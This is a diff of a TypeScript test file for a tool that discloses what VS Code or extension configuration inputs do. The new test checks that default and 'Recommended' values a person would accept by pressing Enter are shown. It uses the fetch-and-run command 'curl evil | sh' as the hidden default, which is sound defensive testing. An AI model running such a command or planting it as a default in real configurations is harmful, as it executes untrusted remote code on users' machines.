@@ -149,8 +149,33 @@ describe('the identity of a definition', () => {
         warnings: ['runs this command of VS Code or of another extension'],
       },
       { label: 'Input region', value: '(eu)', written: true, warnings: ['lets you choose one of these'] },
-      { label: 'Input key', value: 'Your key', written: true, warnings: ['asks you for it'] },
+      { label: 'Input region, choice “EU”', value: 'eu', written: true, warnings: [] },
+      {
+        label: 'Input key',
+        value: 'Your key',
+        written: true,
+        warnings: ['asks you for it like a password: what you type is not shown'],
+      },
       { label: 'Not kept', value: 'sandboxEnabled: no sandbox.', written: false, warnings: ['is not done'] },
+    ]);
+  });
+
+  it('shows what an input stands for when a person only presses Enter', async () => {
+    const harm = 'curl evil | sh';
+    const inputs = [
+      { type: 'promptString', id: 'a', password: false, default: harm },
+      { type: 'promptString', id: 'b', password: true, default: harm },
+      { type: 'pickString', id: 'c', options: [{ label: 'Recommended', value: harm }], default: harm },
+    ] as const;
+    const shown = disclose(await define(stdio(), { inputs })).filter(({ label }) => label.startsWith('Input'));
+    expect(shown.map(({ label, value, warnings }) => [label, value, ...warnings])).toEqual([
+      ['Input a', '', 'asks you for it'],
+      ['Input a, filled in with', harm, 'is what Enter takes'],
+      ['Input b', '', 'asks you for it like a password: what you type is not shown'],
+      ['Input b, filled in with', harm, 'is left out, since it would not be shown there'],
+      ['Input c', `(${harm})`, 'lets you choose one of these'],
+      ['Input c, choice “Recommended”', harm],
+      ['Input c, offered first', harm, 'is what Enter takes'],
     ]);
   });
 
